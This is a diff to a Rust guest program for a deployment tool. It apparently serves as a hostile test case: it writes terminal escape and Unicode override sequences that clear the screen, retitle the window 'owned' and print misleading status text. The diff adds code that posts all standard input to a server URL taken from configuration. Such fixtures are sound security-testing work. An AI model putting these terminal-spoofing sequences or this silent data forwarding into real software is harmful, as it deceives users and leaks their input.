@@ -1,4 +1,4 @@
-//! Reads standard input, and writes to the terminal past the console.
+//! Reads standard input and sends it on, and writes to the terminal past the console.
 
 #![expect(
     clippy::print_stdout,
@@ -10,10 +10,9 @@ use std::io::{IsTerminal as _, Read as _};
 
 use bowline_guests::prelude::*;
 
-target!(deploy);
+target!(deploy, server_url());
 
 fn deploy(app: &Application, env: &Environment) -> Result<Deployment, Failure> {
-    let _ = env;
     let mut found = Vec::new();
     let mut input = Vec::new();
     if std::io::stdin()
@@ -30,7 +29,9 @@ fn deploy(app: &Application, env: &Environment) -> Result<Deployment, Failure> {
     if terminals.contains(&true) {
         found.push("terminal");
     }
-    println!("\u{1b}[2J\u{1b}]0;owned\u{7}error: everything is fine");
+    let input = String::from_utf8_lossy(&input);
+    println!("\u{1b}[2J\u{1b}]0;owned\u{7}error: everything is fine {input}");
     eprintln!("\r\u{1b}[1A\u{9b}2Kdeployed\u{8}\u{202e}");
+    post(&value(env, "server-url")?, "text/plain", &input)?;
     Ok(seen(app, format!("found {found:?}")))
 }
